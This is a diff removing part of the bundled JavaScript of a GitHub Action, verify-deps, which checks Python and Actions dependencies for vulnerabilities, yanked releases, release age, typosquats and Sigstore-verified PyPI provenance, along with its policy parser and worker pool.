-        try {
-            proj = await project(pin.name);
-        }
-        catch (e) {
-            for (const c of [
-                wants.wantYanked && src_rules_RULES.PY_YANKED.id,
-                wants.wantProvenance && 'provenance',
-                wants.wantCooldown && src_rules_RULES.PY_COOLDOWN.id
-            ].filter(Boolean))
-                notChecked.push({ check: c, target, reason: oneLine(e) });
-            return;
-        }
-        if (!proj) {
-            // Not on this index: a private package, or a name nobody has registered (dependency confusion bait).
-            notChecked.push({ check: 'provenance', target, reason: `${pin.name} is not on the index (a private package?)` });
-            return;
-        }
-        const same = (v) => sameVersion(v, pin.version);
-        const releaseFiles = proj.files.filter((f) => same(f.version));
-        const locked = lockedFiles(d, releaseFiles);
-        if (!releaseFiles.length) {
-            notChecked.push({ check: 'provenance', target, reason: `PyPI lists no files for ${pin.name} ${pin.version}` });
-            return;
-        }
-        if (wants.wantYanked) {
-            const y = releaseFiles.find((f) => f.yanked);
-            if (y)
-                findings.push(createFinding(src_rules_RULES.PY_YANKED, {
-                    message: `${d.rawName} ${pin.version} was yanked from PyPI${typeof y.yanked === 'string' ? `: "${y.yanked}"` : ''}.`,
-                    location: depLocation(d),
-                    key: `${pin.name}@${pin.version}`,
-                    properties: { package: pin.name, version: pin.version }
-                }));
-        }
-        if (wants.wantCooldown) {
-            const times = releaseFiles.map((f) => Date.parse(f.uploadTime ?? '')).filter((t) => !Number.isNaN(t));
-            if (!times.length)
-                notChecked.push({ check: src_rules_RULES.PY_COOLDOWN.id, target, reason: 'PyPI gives no upload time' });
-            else {
-                const ageDays = (opts.now.getTime() - Math.min(...times)) / 86_400_000;
-                if (ageDays < opts.policy.cooldownDays) {
-                    findings.push(createFinding(src_rules_RULES.PY_COOLDOWN, {
-                        message: `${d.rawName} ${pin.version} was released ${ageDays < 1 ? `${Math.max(0, Math.round(ageDays * 24))} hour(s)` : `${Math.floor(ageDays)} day(s)`} ago; the policy wants ${opts.policy.cooldownDays} days.`,
-                        location: depLocation(d),
-                        key: `${pin.name}@${pin.version}`,
-                        properties: { package: pin.name, version: pin.version }
-                    }));
-                }
-            }
-        }
-        if (!wants.wantProvenance)
-            return;
-        if (!locked.length) {
-            // The lock names files or digests PyPI does not serve for this release: another index, or a changed file.
-            notChecked.push({
-                check: 'provenance',
-                target,
-                reason: 'none of the locked files or hashes matches a file PyPI serves for this release'
-            });
-            return;
-        }
-        const expected = opts.policy.publishers[pin.name] ?? identities[pin.name] ?? [];
-        const withProv = locked.filter((f) => f.file.provenance);
-        if (!withProv.length) {
-            const prev = previousRelease(proj, pin.version);
-            const prevHad = prev && proj.files.some((f) => sameVersion(f.version, prev) && f.provenance);
-            if (prevHad) {
-                findings.push(createFinding(src_rules_RULES.PY_PROVENANCE_REGRESSION, {
-                    message: `${d.rawName} ${pin.version} has no provenance, but ${prev} was published with attestations.`,
-                    location: depLocation(d),
-                    key: `${pin.name}@${pin.version}`,
-                    properties: { package: pin.name, version: pin.version, previous: prev }
-                }));
-            }
-            else {
-                // Informational (the rule's default) in warn mode; high when required or a publisher is expected.
-                findings.push(createFinding(src_rules_RULES.PY_PROVENANCE_MISSING, {
-                    severity: expected.length || opts.provenance === 'require' ? 'high' : undefined,
-                    message: `${d.rawName} ${pin.version} has no PEP 740 provenance${expected.length ? ', although an expected publisher is configured' : ''}.`,
-                    location: depLocation(d),
-                    key: `${pin.name}@${pin.version}`,
-                    properties: { package: pin.name, version: pin.version }
-                }));
-            }
-            return;
-        }
-        let v;
-        try {
-            v = await getVerifier();
-        }
-        catch (e) {
-            verifierError ??= oneLine(e);
-            notChecked.push({ check: 'provenance', target, reason: `no Sigstore trust material: ${verifierError}` });
-            return;
-        }
-        for (const { file, sha256 } of withProv) {
-            let prov;
-            try {
-                prov = await pypi.provenance(file.provenance);
-            }
-            catch (e) {
-                notChecked.push({ check: 'provenance', target: file.filename, reason: oneLine(e) });
-                continue;
-            }
-            if (!prov) {
-                notChecked.push({
-                    check: 'provenance',
-                    target: file.filename,
-                    reason: 'the index advertised provenance but the Integrity API has none'
-                });
-                continue;
-            }
-            let verdict;
-            try {
-                verdict = await v.verify(prov, { filename: file.filename, sha256 }, expected);
-            }
-            catch (e) {
-                notChecked.push({
-                    check: 'provenance',
-                    target: file.filename,
-                    reason: `verification failed to run: ${oneLine(e)}`
-                });
-                continue;
-            }
-            const props = { package: pin.name, version: pin.version, file: file.filename };
-            if (verdict.status === 'invalid') {
-                findings.push(createFinding(src_rules_RULES.PY_PROVENANCE_INVALID, {
-                    message: `The provenance of ${file.filename} does not verify: ${verdict.reason}.`,
-                    location: depLocation(d),
-                    key: `${file.filename}`,
-                    properties: props
-                }));
-            }
-            else if (verdict.status === 'publisher-mismatch') {
-                const claimed = prov.attestation_bundles.map((b) => claimedPublisher(b.publisher)).find(Boolean);
-                findings.push(createFinding(src_rules_RULES.PY_PUBLISHER_MISMATCH, {
-                    message: `${file.filename} was signed by ${verdict.identity}: ${verdict.reason}.${!expected.length && claimed ? ` (PyPI names ${claimed.repository} as its publisher.)` : ''}`,
-                    location: depLocation(d),
-                    key: `${file.filename}`,
-                    properties: { ...props, identity: verdict.identity }
-                }));
-            }
-        }
-    });
-    const trustBuilds = verifier
-        ? await verifier.then((c) => c.builds, () => 0)
-        : 0;
-    return { findings, notChecked, trustBuilds };
-}
-const sameVersion = (a, b) => a !== undefined && (a === b || (isPep440(a) && isPep440(b) && comparePep440(a, b) === 0));
-/** The highest release below `version` (PEP 440 order), ignoring pre-releases of other lines. */
-function previousRelease(proj, version) {
-    if (!isPep440(version))
-        return undefined;
-    const versions = [...new Set(proj.files.map((f) => f.version).filter((v) => !!v && isPep440(v)))];
-    return versions
-        .filter((v) => comparePep440(v, version) < 0)
-        .sort(comparePep440)
-        .pop();
-}
-/**
- * The files of the release the lock would install, with the digest to check:
- * the lock's own (it is what the installer enforces), else the index's.
- */
-function lockedFiles(d, releaseFiles) {
-    const lockedNames = new Map((d.files ?? []).filter((f) => f.filename).map((f) => [f.filename, f]));
-    const lockedDigests = new Set(d.hashes.filter((h) => h.startsWith('sha256:')).map((h) => h.slice(7)));
-    const out = [];
-    for (const f of releaseFiles) {
-        const lf = lockedNames.get(f.filename);
-        const lockDigest = lf?.hashes.find((h) => h.startsWith('sha256:'))?.slice(7);
-        if (lf)
-            out.push({ file: f, sha256: lockDigest ?? f.sha256 ?? '' });
-        else if (!lockedNames.size && f.sha256 && (lockedDigests.size === 0 || lockedDigests.has(f.sha256)))
-            out.push({ file: f, sha256: f.sha256 });
-    }
-    return out.filter((x) => x.sha256);
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/engine.ts
-// verify-deps engine: a pure function over the files it is given and the
-// services injected into it (GitHub, OSV, PyPI, a Sigstore verifier). Every
-// check that cannot run says so as "not checked"; none reads as passed.
-
-
-
-
-
-
-const engine_CHECKS = ['pinning', 'vulnerabilities', 'provenance', 'typosquats', 'actions'];
-const depKey = (d) => `${d.name}@${d.version ?? d.specifier}|${d.vcs?.commit ?? d.vcs?.ref ?? ''}|${d.url ?? d.path ?? ''}`;
-function parsePython(files) {
-    const manifests = [];
-    const errors = [];
-    for (const f of files) {
-        try {
-            manifests.push(parsePythonFile(f.text, f.path));
-        }
-        catch (e) {
-            errors.push(oneLine(e));
-        }
-    }
-    return { manifests, errors };
-}
-function offlineFindings(manifests, refs, opts) {
-    const out = [];
-    if (opts.checks.has('pinning')) {
-        for (const m of manifests)
-            out.push(...checkPinning(m));
-        out.push(...checkNoLock(manifests));
-    }
-    if (opts.checks.has('typosquats'))
-        out.push(...checkTyposquats(manifests, opts.policy));
-    if (opts.checks.has('actions'))
-        out.push(...checkActionForm(refs, opts.policy));
-    return out;
-}
-async function verifyDeps(input, opts, services = {}) {
-    const py = parsePython(input.python);
-    const act = parseActionFiles(input.actions);
-    const errors = [...py.errors, ...act.errors];
-    const notChecked = [];
-    const notes = [];
-    let findings = offlineFindings(py.manifests, act.refs, opts);
-    let manifests = py.manifests;
-    let refs = act.refs;
-    if (input.base) {
-        // PR mode: findings that already exist at the base are not the PR's; online checks only look at what changed.
-        const basePy = parsePython(input.base.python);
-        const baseAct = parseActionFiles(input.base.actions);
-        const baseFingerprints = new Set(offlineFindings(basePy.manifests, baseAct.refs, opts).map((f) => f.fingerprint));
-        findings = findings.filter((f) => !baseFingerprints.has(f.fingerprint));
-        const baseDeps = new Set(basePy.manifests.flatMap((m) => m.dependencies.map(depKey)));
-        const baseUses = new Set(baseAct.refs.map((u) => `${u.raw}#${u.comment ?? ''}`));
-        manifests = manifests.map((m) => ({ ...m, dependencies: m.dependencies.filter((d) => !baseDeps.has(depKey(d))) }));
-        refs = refs.filter((u) => !baseUses.has(`${u.raw}#${u.comment ?? ''}`));
-        notes.push(`PR mode: ${manifests.reduce((n, m) => n + m.dependencies.length, 0)} Python dependencies and ${refs.filter((u) => u.kind !== 'local').length} action references are new or changed since the base; only those were checked online.`);
-    }
-    notes.push(...condaNotCovered(manifests));
-    const pins = collectPins(manifests);
-    const actionRefs = refs.filter((u) => u.kind !== 'local');
-    const network = (check, what) => notChecked.push({ check, reason: `offline: ${what} needs the network` });
-    // GitHub: pinned actions (impostor, comment, IOC, nested).
-    let actionVersions = new Map();
-    if (opts.checks.has('actions')) {
-        if (opts.offline) {
-            for (const u of actionRefs) {
-                // Known-compromised commits need no network: the list ships with the action.
-                if (u.kind !== 'docker' && u.ref && FULL_SHA.test(u.ref))
-                    findings.push(...(await checkActionsOnline([u], iocOnlyApi, { nested: false })).findings.filter((f) => f.ruleId === src_rules_RULES.COMPROMISED_ACTION.id));
-            }
-            if (actionRefs.some((u) => u.ref && FULL_SHA.test(u.ref)))
-                network('actions', 'resolving version comments, impostor commits and nested actions through the GitHub API');
-        }
-        else if (!services.github) {
-            if (actionRefs.length)
-                notChecked.push({
-                    check: 'actions',
-                    reason: services.githubMissing ??
-                        'no GitHub token: version comments, impostor commits and nested actions not checked'
-                });
-        }
-        else {
-            const r = await checkActionsOnline(actionRefs, services.github, { nested: opts.nested ?? true });
-            findings.push(...r.findings);
-            notChecked.push(...r.notChecked);
-            actionVersions = r.versions;
-        }
-    }
-    // OSV: PyPI pins and GitHub Actions, one batch.
-    let advisories = 0;
-    let trustBuilds = 0;
-    if (opts.checks.has('vulnerabilities')) {
-        const targets = pins.map((p) => ({ ecosystem: 'PyPI', name: p.name, versions: [p.version] }));
-        const actionTargets = actionTargetsOf(actionRefs, actionVersions, opts.checks.has('actions') && !opts.offline && !!services.github);
-        targets.push(...actionTargets.map((t) => t.target));
-        if (!targets.length) {
-            // nothing to look up
-        }
-        else if (opts.offline)
-            network('vulnerabilities', 'the OSV lookup');
-        else if (!services.osv)
-            notChecked.push({ check: 'vulnerabilities', reason: 'no OSV client' });
-        else {
-            try {
-                const r = await lookupVulnerabilities(services.osv, targets, opts.concurrency ?? 16);
-                advisories = r.advisories;
-                for (const p of r.problems)
-                    notChecked.push({
-                        check: p.target.ecosystem === 'PyPI' ? src_rules_RULES.PY_VULNERABLE.id : src_rules_RULES.VULNERABLE_ACTION.id,
-                        target: `${p.target.name}${p.target.versions.length ? `@${p.target.versions.join(',')}` : ''}`,
-                        reason: p.reason
-                    });
-                for (const h of r.hits)
-                    findings.push(h.target.ecosystem === 'PyPI' ? pyVulnFinding(h, pins) : actionVulnFinding(h, actionTargets));
-            }
-            catch (e) {
-                notChecked.push({ check: 'vulnerabilities', reason: `OSV lookup failed: ${oneLine(e)}` });
-            }
-        }
-    }
-    // PyPI: yanked, cooldown, provenance (and its regression).
-    const wantYanked = opts.checks.has('vulnerabilities');
-    const wantProvenance = opts.checks.has('provenance') && opts.provenance !== 'off';
-    const wantCooldown = opts.policy.cooldownDays > 0;
-    const registryPins = pins.filter((p) => p.deps.some((d) => !d.vcs && !d.url && !d.path));
-    if (registryPins.length && (wantYanked || wantProvenance || wantCooldown)) {
-        if (opts.offline)
-            network(wantProvenance ? 'provenance' : 'vulnerabilities', 'reading PyPI (yanked releases, provenance, release age)');
-        else if (!services.pypi)
-            notChecked.push({ check: 'provenance', reason: 'no PyPI client' });
-        else {
-            const r = await checkPyPI(registryPins, manifests, opts, { pypi: services.pypi, verifier: services.verifier }, { wantYanked, wantProvenance, wantCooldown });
-            findings.push(...r.findings);
-            notChecked.push(...r.notChecked);
-            trustBuilds = r.trustBuilds;
-        }
-    }
-    const count = manifests.reduce((n, m) => n + m.dependencies.length, 0) + actionRefs.length;
-    return {
-        rules: src_rules_REGISTRY.list(),
-        findings,
-        suppressions: opts.policy.ignores,
-        errors,
-        notChecked,
-        notes,
-        count,
-        stats: {
-            'Python files': input.python.length,
-            'workflow and action files': input.actions.length,
-            'Python dependencies': manifests.reduce((n, m) => n + m.dependencies.length, 0),
-            'action references': actionRefs.length,
-            ...(advisories ? { 'OSV advisories read': advisories } : {}),
-            ...(trustBuilds ? { 'Sigstore trust material builds': trustBuilds } : {})
-        }
-    };
-}
-/** An ActionsApi that knows nothing: only the shipped indicators are consulted. */
-const iocOnlyApi = {
-    refs: () => Promise.reject(new Error('offline')),
-    compare: () => Promise.reject(new Error('offline')),
-    file: () => Promise.reject(new Error('offline'))
-};
-function collectPins(manifests) {
-    const pins = new Map();
-    for (const m of manifests) {
-        for (const d of m.dependencies) {
-            if (!d.version)
-                continue;
-            const k = `${d.name}@${d.version}`;
-            if (!pins.has(k))
-                pins.set(k, { name: d.name, version: d.version, deps: [] });
-            pins.get(k).deps.push(d);
-        }
-    }
-    return [...pins.values()];
-}
-function actionTargetsOf(refs, versions, resolved) {
-    const byRepo = new Map();
-    for (const u of refs) {
-        if (u.kind !== 'action' && u.kind !== 'reusable-workflow')
-            continue;
-        const name = `${u.owner}/${u.repo}`.toLowerCase();
-        let vs = [];
-        if (u.ref && FULL_SHA.test(u.ref)) {
-            if (!resolved)
-                continue; // without the tags a SHA carries there is nothing to match
-            vs = versions.get(`${name}@${u.ref}`.toLowerCase()) ?? [];
-        }
-        else if (u.ref)
-            vs = [u.ref];
-        const k = `${name}#${vs.join(',')}`;
-        if (!byRepo.has(k))
-            byRepo.set(k, { target: { ecosystem: 'GitHub Actions', name, versions: vs }, refs: [] });
-        byRepo.get(k).refs.push(u);
-    }
-    return [...byRepo.values()];
-}
-/** `advisories` (the id and its aliases) is what a policy `ignore` entry's `id` matches. */
-function advisoryProps(rec, pkg) {
-    const aliases = rec.aliases ?? [];
-    return { advisory: rec.id, aliases, advisories: [rec.id, ...aliases], package: pkg };
-}
-function pyVulnFinding(h, pins) {
-    const pin = pins.find((p) => p.name === h.target.name && p.version === h.version);
-    const d = pin.deps[0];
-    const malicious = h.record.id.startsWith('MAL-');
-    const rule = malicious ? src_rules_RULES.PY_MALICIOUS : src_rules_RULES.PY_VULNERABLE;
-    const also = pin.deps.length > 1 ? ` Also pinned in ${[...new Set(pin.deps.slice(1).map((x) => x.file))].join(', ')}.` : '';
-    return createFinding(rule, {
-        severity: malicious ? undefined : advisorySeverity(h.record),
-        message: `${d.rawName} ${h.version} is ${malicious ? 'known malware' : 'affected by'} ${h.record.id}${h.record.aliases?.length ? ` (${h.record.aliases.join(', ')})` : ''}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${also}`,
-        location: depLocation(d),
-        key: `${d.name}@${h.version}:${h.record.id}`,
-        remediation: malicious
-            ? undefined
-            : h.fixed.length
-                ? `Update ${d.rawName} to ${h.fixed[0]} or later (https://osv.dev/vulnerability/${h.record.id}).`
-                : `No fixed version is known: see https://osv.dev/vulnerability/${h.record.id} and remove or replace ${d.rawName}.`,
-        properties: { ...advisoryProps(h.record, d.name), version: h.version, fixed: h.fixed }
-    });
-}
-function actionVulnFinding(h, targets) {
-    const t = targets.find((x) => x.target === h.target);
-    const u = t.refs[0];
-    const compromised = /compromis|malicious/i.test(`${h.record.summary ?? ''} ${h.record.details ?? ''}`);
-    return createFinding(compromised ? src_rules_RULES.COMPROMISED_ACTION : src_rules_RULES.VULNERABLE_ACTION, {
-        severity: compromised ? undefined : advisorySeverity(h.record),
-        message: `\`${h.target.name}\` ${h.version} is affected by ${h.record.id}${h.record.summary ? `: ${h.record.summary}` : ''}.${h.fixed.length ? ` Fixed in ${h.fixed.join(', ')}.` : ''}${t.refs.length > 1 ? ` (${t.refs.length} references)` : ''}`,
-        location: { file: u.file, line: u.line, column: u.column },
-        evidence: u.raw,
-        key: `${h.target.name}@${h.version}:${h.record.id}`,
-        properties: { ...advisoryProps(h.record, h.target.name), version: h.version, fixed: h.fixed }
-    });
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/src/policy.ts
-// The verify-deps policy: the `verify-deps:` section of the shared config
-// file, or a separate YAML file named by the `policy` input (the file wins
-// key by key). Parsed here with errors naming file and line.
-
-const EMPTY_POLICY = {
-    publishers: {},
-    allowTags: [],
-    ignores: [],
-    cooldownDays: 0,
-    typosquatAllow: new Set()
-};
-const KEYS = ['provenance', 'publishers', 'allow-tags', 'ignore', 'cooldown-days', 'typosquat-allow'];
-const policy_SEVERITIES = ['info', 'low', 'medium', 'high', 'critical'];
-/** Reads a policy from plain data (already parsed); `where(path)` gives a line for errors. */
-function policyFromData(data, file, lineOf) {
-    const fail = (path, msg) => fileError(file, lineOf(path), `${path.join('.')}: ${msg}`);
-    const policy = { publishers: {}, allowTags: [], ignores: [], cooldownDays: 0, typosquatAllow: new Set() };
-    if (data === null || data === undefined)
-        return policy;
-    if (typeof data !== 'object' || Array.isArray(data))
-        throw fileError(file, 1, 'the policy must be a mapping');
-    const d = data;
-    for (const k of Object.keys(d))
-        if (!KEYS.includes(k))
-            throw fail([k], `unknown key (allowed: ${KEYS.join(', ')})`);
-    const pubs = d.publishers ?? {};
-    if (typeof pubs !== 'object' || Array.isArray(pubs))
-        throw fail(['publishers'], 'must map package names to publishers');
-    for (const [pkg, v] of Object.entries(pubs)) {
-        const list = Array.isArray(v) ? v : [v];
-        policy.publishers[types_normalizeName(pkg)] = list.map((p, i) => {
-            if (!p || typeof p !== 'object')
-                throw fail(['publishers', pkg, i], 'must be a mapping with kind and repository');
-            const e = p;
-            for (const k of Object.keys(e))
-                if (!['kind', 'repository', 'workflow', 'environment'].includes(k))
-                    throw fail(['publishers', pkg, k], 'unknown key (kind, repository, workflow, environment)');
-            if (typeof e.repository !== 'string' || !e.repository)
-                throw fail(['publishers', pkg], "needs 'repository' (owner/name or the GitLab project path)");
-            return {
-                kind: typeof e.kind === 'string' ? e.kind : 'GitHub',
-                repository: e.repository,
-                workflow: e.workflow,
-                environment: e.environment
-            };
-        });
-    }
-    const tags = d['allow-tags'] ?? [];
-    if (!Array.isArray(tags))
-        throw fail(['allow-tags'], 'must be a list of owners or {owner, severity}');
-    policy.allowTags = tags.map((t, i) => {
-        if (typeof t === 'string')
-            return { owner: t.toLowerCase(), severity: 'low' };
-        const o = t;
-        if (typeof o?.owner !== 'string')
-            throw fail(['allow-tags', i], "needs 'owner'");
-        const sev = o.severity ?? 'low';
-        if (!policy_SEVERITIES.includes(String(sev)))
-            throw fail(['allow-tags', i, 'severity'], `must be one of ${policy_SEVERITIES.join(', ')}`);
-        return { owner: o.owner.toLowerCase(), severity: sev };
-    });
-    const ign = d.ignore ?? [];
-    if (!Array.isArray(ign))
-        throw fail(['ignore'], 'must be a list');
-    policy.ignores = ign.map((x, i) => {
-        const o = (x ?? {});
-        for (const k of Object.keys(o))
-            if (!['id', 'rule', 'package', 'reason', 'expires'].includes(k))
-                throw fail(['ignore', i, k], 'unknown key (id, rule, package, reason, expires)');
-        if (typeof o.reason !== 'string' || o.reason.trim().length < 5)
-            throw fail(['ignore', i], "needs a 'reason' (at least 5 characters)");
-        if (!o.id && !o.rule && !o.package)
-            throw fail(['ignore', i], "needs 'id', 'rule' or 'package'");
-        const expires = o.expires instanceof Date ? o.expires.toISOString().slice(0, 10) : o.expires;
-        if (expires !== undefined && !isCalendarDate(String(expires)))
-            throw fail(['ignore', i, 'expires'], `'${String(expires)}' is not a real date (YYYY-MM-DD)`);
-        const properties = {};
-        if (o.id)
-            properties.advisories = String(o.id);
-        if (o.package !== undefined && o.package !== '')
-            properties.package = String(o.package);
-        return {
-            ...(o.rule ? { rule: String(o.rule) } : {}),
-            ...(Object.keys(properties).length ? { properties } : {}),
-            reason: o.reason,
-            expires,
-            source: `${file}:${lineOf(['ignore', i]) ?? 1}`
-        };
-    });
-    const cd = d['cooldown-days'] ?? 0;
-    if (typeof cd !== 'number' || !Number.isInteger(cd) || cd < 0)
-        throw fail(['cooldown-days'], 'must be a whole number of days');
-    policy.cooldownDays = cd;
-    const allow = d['typosquat-allow'] ?? [];
-    if (!Array.isArray(allow) || allow.some((a) => typeof a !== 'string'))
-        throw fail(['typosquat-allow'], 'must be a list of package names');
-    policy.typosquatAllow = new Set(allow.map(types_normalizeName));
-    if (d.provenance !== undefined) {
-        if (!['require', 'warn', 'off'].includes(String(d.provenance)))
-            throw fail(['provenance'], 'must be require, warn or off');
-        policy.provenance = d.provenance;
-    }
-    return policy;
-}
-/** Parses a policy YAML file (same keys as the config section). */
-function parsePolicyFile(text, file) {
-    const y = yaml_parseYamlFile(text, file);
-    const data = y.doc.toJS();
-    return policyFromData(data, file, (path) => {
-        const node = y.doc.getIn(path, true);
-        return node?.range ? y.lineCounter.linePos(node.range[0]).line : undefined;
-    });
-}
-/** The policy file's entries win; lists are concatenated. */
-function mergePolicies(base, over) {
-    return {
-        publishers: { ...base.publishers, ...over.publishers },
-        allowTags: [...over.allowTags, ...base.allowTags],
-        ignores: [...base.ignores, ...over.ignores],
-        cooldownDays: over.cooldownDays || base.cooldownDays,
-        typosquatAllow: new Set([...base.typosquatAllow, ...over.typosquatAllow]),
-        provenance: over.provenance ?? base.provenance
-    };
-}
-const STRICTNESS = ['off', 'warn', 'require'];
-/** The stricter of two provenance modes: a repository's config can demand `require`, a workflow cannot weaken it. */
-function stricterProvenance(a, b) {
-    return b && STRICTNESS.indexOf(b) > STRICTNESS.indexOf(a) ? b : a;
-}
-
-// EXTERNAL MODULE: external "node:worker_threads"
-var external_node_worker_threads_ = __nccwpck_require__(5919);
-;// CONCATENATED MODULE: ./actions/verify-deps/src/pool.ts
-// Provenance verification is CPU-bound (about 20 ms per attestation in
-// @sigstore/verify), so a large lock is verified on worker threads: each
-// builds the trust material once and verifies the files it is sent. The
-// bundle is its own worker script (index.ts starts workerMain off the main thread).
-
-
-
-const WORKER_ROLE = 'verify-deps-provenance';
-/** Runs in a worker thread: verify what the main thread sends. */
-function workerMain() {
-    if (!parentPort || workerData?.role !== WORKER_ROLE)
-        return;
-    const port = parentPort;
-    let verifier;
-    let setupError;
-    try {
-        verifier = new BundleVerifier(parseTrustedRoot(workerData.root, 'trusted root'));
-    }
-    catch (e) {
-        setupError = e.message;
-    }
-    port.on('message', (job) => {
-        if (!verifier)
-            return port.postMessage({ id: job.id, error: setupError });
-        try {
-            port.postMessage({ id: job.id, verdict: verifyProvenance(verifier, job.prov, job.file, job.expected) });
-        }
-        catch (e) {
-            port.postMessage({ id: job.id, error: e.message });
-        }
-    });
-}
-/** A pool of `size` workers running `script` (the bundle), each with the trusted root given as JSON text. */
-function startPool(script, rootJson, size) {
-    const pending = new Map();
-    const workers = Array.from({ length: size }, () => {
-        const w = new external_node_worker_threads_.Worker(script, { workerData: { role: WORKER_ROLE, root: rootJson } });
-        w.unref();
-        w.on('message', (m) => {
-            const p = pending.get(m.id);
-            pending.delete(m.id);
-            if (m.verdict)
-                p?.resolve(m.verdict);
-            else
-                p?.reject(new Error(m.error ?? 'verification worker failed'));
-        });
-        // A worker that dies (or never was one) fails what it held: "not checked", never a hang.
-        const failAll = (e) => {
-            for (const p of pending.values())
-                p.reject(e);
-            pending.clear();
-        };
-        w.on('error', failAll);
-        w.on('exit', (code) => failAll(new Error(`verification worker exited (${code})`)));
-        return w;
-    });
-    let next = 0;
-    return {
-        builds: size,
-        verify(prov, file, expected) {
-            const id = next++;
-            return new Promise((resolve, reject) => {
-                pending.set(id, { resolve, reject });
-                workers[id % size].postMessage({ id, prov, file, expected });
-            });
-        },
-        async close() {
-            await Promise.all(workers.map((w) => w.terminate()));
-        }
-    };
-}
-
-;// CONCATENATED MODULE: ./actions/verify-deps/config.schema.json
-const verify_deps_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'verify-deps\' section of .github/security-actions.yml","description":"Settings of verify-deps (docs/verify-deps.md): its policy; a file named by its `policy` input takes the same keys.","type":"object","additionalProperties":false,"properties":{"provenance":{"description":"Provenance mode for this repository; the stricter of this and the action input applies.","enum":["require","warn","off"]},"publishers":{"description":"Expected Trusted Publisher per package (PEP 503 name): one or a list.","type":"object","additionalProperties":{"anyOf":[{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}},{"type":"array","items":{"type":"object","additionalProperties":false,"required":["repository"],"properties":{"kind":{"enum":["GitHub","GitLab"]},"repository":{"type":"string","minLength":1},"workflow":{"type":"string"},"environment":{"type":"string"}}}}]}},"allow-tags":{"description":"Owners whose actions may be pinned to a tag, reported at a lower severity.","type":"array","items":{"anyOf":[{"type":"string"},{"type":"object","additionalProperties":false,"required":["owner"],"properties":{"owner":{"type":"string"},"severity":{"enum":["info","low","medium","high","critical"]}}}]}},"ignore":{"description":"Advisories, rules or packages to suppress, each with a reason and an optional expiry (YYYY-MM-DD).","type":"array","items":{"type":"object","additionalProperties":false,"required":["reason"],"anyOf":[{"required":["id"]},{"required":["rule"]},{"required":["package"]}],"properties":{"id":{"type":"string"},"rule":{"type":"string"},"package":{"type":"string"},"reason":{"type":"string","minLength":5},"expires":{"type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"cooldown-days":{"description":"Minimum age in days of a locked release (0: off).","type":"integer","minimum":0},"typosquat-allow":{"description":"Direct dependencies never reported as typosquats.","type":"array","items":{"type":"string"}}}}');
-;// CONCATENATED MODULE: ./actions/verify-deps/src/main.ts
-// verify-deps adapter: read inputs, collect the files, build the clients,
-// call the engine.
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/** Files named by `-r`/`-c` in requirements files, followed (inside the root) so nothing they pin escapes the checks. */
-function includesOf(file) {
-    if (pythonFileKind(file.path) !== 'requirements')
-        return [];
-    return logicalLines(file.text)
-        .map((l) => /^(?:-r|-c|--requirement|--constraint)(?:\s+|=)(\S+)/.exec(l.text)?.[1])
-        .filter((x) => !!x && !/^[a-z]+:\/\//i.test(x))
-        .map((x) => external_node_path_.posix.normalize(external_node_path_.posix.join(external_node_path_.posix.dirname(file.path), x)));
-}
-async function collectFiles(root, globs) {
-    const { workflows, actions } = await discoverWorkflowFiles(root);
-    let pyPaths = await findFiles(root, (p) => Boolean(pythonFileKind(p)));
-    let actionPaths = [...workflows, ...actions];
-    if (globs.length) {
-        const match = picomatch_default()(globs, { dot: true });
-        pyPaths = pyPaths.filter((p) => match(p));
-        actionPaths = actionPaths.filter((p) => match(p));
-    }
-    const errors = [];
-    const read = async (p) => {
-        try {
-            return { path: p, text: await (0,promises_.readFile)((0,external_node_path_.resolve)(root, p), 'utf8') };
-        }
-        catch (e) {
-            errors.push(`${p}: cannot read (${e.code ?? 'error'})`);
-            return undefined;
-        }
-    };
-    const python = (await Promise.all(pyPaths.map(read))).filter((f) => !!f);
-    const seen = new Set(pyPaths);
-    for (let i = 0; i < python.length; i++) {
-        for (const inc of includesOf(python[i])) {
-            if (seen.has(inc) || inc.startsWith('..'))
-                continue;
-            seen.add(inc);
-            const f = await read(inc);
-            if (f)
-                python.push(f);
-        }
-    }
-    const actionFiles = (await Promise.all(actionPaths.map(read))).filter((f) => !!f);
-    return { python, actions: actionFiles, errors };
-}
-/** The same files at a base commit (PR mode); a file the PR adds has no base version. */
-async function filesAtBase(root, base, files) {
-    const git = (0,external_node_util_.promisify)(external_node_child_process_namespaceObject.execFile);
-    try {
-        await git('git', ['rev-parse', '--verify', '--quiet', `${base}^{commit}`], { cwd: root });
-    }
-    catch {
-        throw new UserError(`Input 'diff-base': '${base}' is not a commit in ${root} (fetch it first, e.g. actions/checkout with fetch-depth: 0).`);
-    }
-    const prefix = (await git('git', ['rev-parse', '--show-prefix'], { cwd: root })).stdout.trim();
-    const at = async (f) => {
-        try {
-            return {
-                path: f.path,
-                text: (await git('git', ['show', `${base}:${prefix}${f.path}`], { cwd: root, maxBuffer: 64 * 1024 * 1024 }))
-                    .stdout
-            };
-        }
-        catch {
-            return undefined;
-        }
-    };
-    const keep = (l) => l.filter((f) => !!f);
-    return {
-        python: keep(await Promise.all(files.python.map(at))),
-        actions: keep(await Promise.all(files.actions.map(at)))
-    };
-}
-function parseChecks(list) {
-    if (!list.length || list.includes('all'))
-        return new Set(engine_CHECKS);
-    for (const c of list) {
-        if (!engine_CHECKS.includes(c))
-            throw new UserError(`Input 'checks' must list ${engine_CHECKS.join(', ')} or all; got '${c}'.`);
-    }
-    return new Set(list);
-}
-/** The GitHub calls the actions checks need, over Octokit. */
-function githubActionsApi(client) {
-    const { rest } = client;
-    const listRefs = async (owner, repo, ns) => {
-        const refs = (await rest.paginate(rest.rest.git.listMatchingRefs, { owner, repo, ref: ns, per_page: 100 }));
-        return Promise.all(refs.map(async (r) => {
-            let sha = r.object.sha;
-            // Annotated tags point at a tag object; the commit is one level down.
-            if (r.object.type === 'tag')
-                sha = (await rest.rest.git.getTag({ owner, repo, tag_sha: sha })).data.object.sha;
-            return { name: r.ref.replace(/^refs\/(heads|tags)\//, ''), sha };
-        }));
-    };
-    return {
-        async refs(owner, repo) {
-            try {
